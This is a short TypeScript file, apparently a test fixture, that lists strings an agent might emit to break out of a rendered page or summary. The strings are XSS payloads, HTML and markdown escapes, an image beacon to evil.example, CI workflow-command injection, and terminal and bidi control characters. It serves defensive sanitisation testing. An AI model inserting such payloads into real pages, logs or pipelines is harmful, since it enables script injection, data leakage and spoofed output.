/** What an agent could say to break out of the page or the summary. */
export const HOSTILE = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '</div></details></body><h1>Injected</h1>',
  '<!-- comment --> ]]> &lt;b&gt; "\' onmouseover=x',
  '```\n## Injected heading\n```',
  '``````\n[link](https://evil.example)\n~~~~',
  'a `lone` tick and one `more <b>',
  '| cell | cell |\n|---|---|',
  '![beacon](https://evil.example/?data) @octocat #1 www.evil.example',
  '::error::Injected command\n##[error]Injected command',
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u0000 \r overwritten',
  'right \u202e to left \u2066',
  'half \ud83d and \ufffd broken',
].join('\n')
